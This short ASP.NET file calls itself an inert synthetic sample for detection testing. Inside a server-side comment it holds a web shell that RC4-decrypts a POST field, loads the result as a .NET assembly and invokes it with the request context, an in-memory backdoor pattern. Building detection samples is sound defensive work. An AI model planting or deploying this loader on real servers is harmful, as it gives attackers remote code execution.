<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><% byte[] d = Rc4(Key, Hex(Request.Form["v"])); /* j = (j + s[i] + key[i % key.Length]) % 256 */ System.Reflection.Assembly.Load(d).GetType("P").GetMethod("Go").Invoke(null, new object[] { Context }); %>
--%>
